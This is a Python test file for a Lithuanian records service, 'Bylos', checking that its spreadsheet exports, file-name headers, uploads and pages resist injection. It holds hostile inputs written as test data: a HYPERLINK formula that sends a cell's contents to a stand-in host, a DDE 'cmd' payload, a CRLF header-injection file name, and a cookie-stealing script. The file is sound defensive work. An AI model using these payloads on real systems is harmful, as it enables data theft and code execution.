"""Issue 10 item 10: what Bylos writes cannot be turned against its reader.

Formulas never reach a spreadsheet cell (plan and register XLSX, the export's CSVs), file
names survive any letters (RFC 6266), number formats keep to a safe alphabet, API answers are
neither sniffed nor cached, a stored upload is served as bytes whatever type its uploader
claimed, pages carry a CSP that their own scripts live with, and /docs needs no CDN.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path
from urllib.parse import quote

import pytest
from openpyxl import load_workbook

from service.cases.models import Case
from service.db import session_scope
from service.output import content_disposition
from service.timeutil import today_vilnius
from service.users.models import Role
from service.web.rendering import HERE as WEB_DIR
from tests.conftest import Service
from tests.service.archive.helpers import closed_case, person, stored_document, use_test_rules

FORMULA = '=HYPERLINK("http://blogas.example/?"&B3,"Atidaryti")'
STARTS = ["=1+1", "+1", "-2+3", "@SUM(A1)", "\tlabas", "\rlabas"]


def _sheet_cells(xlsx: bytes) -> list[tuple[str, str | None, bool]]:
    """(text, data type, quote prefix) of every cell holding text, from every sheet."""
    book = load_workbook(io.BytesIO(xlsx))
    return [
        (str(cell.value), cell.data_type, bool(cell.quotePrefix))
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


def _no_formula(xlsx: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_a_formula_case_title_stays_text_in_the_plan_xlsx_and_round_trips(
    service: Service,
) -> None:
    archivist = service.user(Role.archivist)
    year = today_vilnius().year + 1
    assert service.client.get(f"/api/plans/{year}", headers=archivist).status_code == 200
    added = service.client.post(
        f"/api/plans/{year}/cases",
        json={"index": "3.9", "title": FORMULA, "retention_rule": "v1511-progress-report"},
        headers=archivist,
    )
    assert added.status_code == 201, added.text
    xlsx = service.client.get(f"/api/plans/{year}.xlsx", headers=archivist).content
    _no_formula(xlsx)
    [(_, kind, prefixed)] = [c for c in _sheet_cells(xlsx) if c[0] == FORMULA]
    assert (kind, prefixed) == ("s", True)
    again = service.client.post(
        f"/api/plans/{year}/import",
        content=xlsx,
        headers=archivist
        | {"Content-Type": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"},
    )
    assert again.status_code == 200, again.text
    titles = [c["title"] for a in again.json()["areas"] for c in a["cases"]]
    assert FORMULA in titles


def test_register_xlsx_with_a_lithuanian_code_and_a_formula_title(service: Service) -> None:
    admin = service.user(Role.admin)
    created = service.client.post(
        "/api/registers",
        json={"code": "ŠV", "title": "=cmd|' /C calc'!A0", "case_index": "1.2"},
        headers=admin,
    )
    assert created.status_code == 201, created.text
    year = today_vilnius().year
    reader = service.user(Role.office_manager)
    response = service.client.get(f"/api/registers/ŠV/entries.xlsx?year={year}", headers=reader)
    assert response.status_code == 200, response.text
    disposition = response.headers["content-disposition"]
    assert disposition == (
        f'attachment; filename="registras-SV-{year}.xlsx"; '
        f"filename*=UTF-8''{quote(f'registras-ŠV-{year}.xlsx')}"
    )
    _no_formula(response.content)
    assert all(kind == "s" for text, kind, _ in _sheet_cells(response.content) if text[:1] == "=")


@pytest.mark.parametrize(
    "name",
    [
        'a"b.pdf',
        "a\r\nSet-Cookie: x=1.pdf",
        "ŽŪ-1;2.xlsx",
        "aplankas/kitas\\byla.pdf",
        "\u202efdp.exe",
    ],
)
def test_content_disposition_is_one_safe_header_line(name: str) -> None:
    header = content_disposition(name)
    header.encode("latin-1")  # what an HTTP header can carry
    fallback = re.match(r'^attachment; filename="([^"]*)"; filename\*=UTF-8\'\'(\S+)$', header)
    assert fallback, header
    assert "/" not in fallback.group(1) and "\r" not in header and "\n" not in header


@pytest.mark.parametrize(
    "number_format", ["=HYPERLINK({seq})", "{code}+{seq}", '{code}"{seq}', "{seq!r}", "@{seq}"]
)
def test_number_formats_keep_to_a_safe_alphabet(service: Service, number_format: str) -> None:
    response = service.client.post(
        "/api/registers",
        json={"code": "XQ", "title": "Bandomasis", "case_index": "1.2"}
        | {"number_format": number_format},
        headers=service.user(Role.admin),
    )
    assert response.status_code == 422
    assert "Netinkamas numerio formatas" in response.json()["detail"]


def test_export_csv_cells_cannot_run(service: Service, tmp_path: Path) -> None:
    use_test_rules(service)
    user, headers = person(service, Role.archivist)
    case = closed_case(service, 2001)
    stored_document(service, case, user)
    with session_scope(service.engine) as session:
        row = session.get(Case, case.id)
        assert row is not None
        row.title = FORMULA
        session.add(row)
    response = service.client.post("/api/exports", json={"year": 2001}, headers=headers)
    assert response.status_code == 200, response.text
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        [name] = [n for n in archive.namelist() if n.endswith("bylu-apyrasas.csv")]
        text = archive.read(name).decode("utf-8-sig")
    [line] = list(csv.DictReader(io.StringIO(text)))
    assert line["bylos_antraste"] == "'" + FORMULA


def test_api_answers_are_neither_sniffed_nor_cached(service: Service) -> None:
    reader = service.user(Role.office_manager)
    for url in ("/api/registers", "/api/documents", "/api/nera-tokio", "/openapi.json"):
        response = service.client.get(url, headers=reader)
        assert response.headers["x-content-type-options"] == "nosniff", url
        assert response.headers["cache-control"] == "no-store", url


def test_a_stored_upload_is_served_as_bytes_whatever_its_claimed_type(service: Service) -> None:
    use_test_rules(service)
    _, admin = person(service, Role.admin, name="Petras Administratorius")
    page = b"<html><script>alert(document.cookie)</script></html>"
    response = service.client.post(
        "/api/journal-transfers?filename=dienynas.html&school_year=2025-2026",
        content=page,
        headers=admin | {"Content-Type": "text/html"},
    )
    assert response.status_code == 201, response.text
    download = service.client.get(
        f"/api/journal-transfers/{response.json()['document_id']}/file", headers=admin
    )
    assert download.status_code == 200 and download.content == page
    assert download.headers["content-type"] == "application/octet-stream"
    assert download.headers["x-content-type-options"] == "nosniff"
    assert download.headers["content-disposition"].startswith("attachment;")


def test_pages_carry_a_csp_without_inline_script_or_style(service: Service) -> None:
    page = service.client.get("/prisijungti")
    policy = page.headers["content-security-policy"]
    assert "script-src 'self'" in policy and "unsafe-inline" not in policy
    assert "frame-ancestors 'self'" in policy and "object-src 'none'" in policy
    # The templates must live with that policy: no inline script, style or handler.
    inline = re.compile(r"<script(?![^>]*\bsrc=)|<style|\sstyle=|\son[a-z]+=|javascript:", re.I)
    offenders = {
        p.name: inline.findall(p.read_text(encoding="utf-8"))
        for p in sorted((WEB_DIR / "templates").glob("*.html"))
    }
    assert {k: v for k, v in offenders.items() if v} == {}


def test_docs_work_offline(service: Service) -> None:
    docs = service.client.get("/docs")
    assert docs.status_code == 200
    assert not re.search(r"(src|href)=\"(https?:)?//", docs.text), docs.text
    for asset in re.findall(r'(?:src|href)="(/[^"]+)"', docs.text):
        assert service.client.get(asset).status_code == 200, asset
    assert service.client.get("/openapi.json").json()["info"]["title"] == "Bylos"
    assert service.client.get("/redoc").status_code == 404
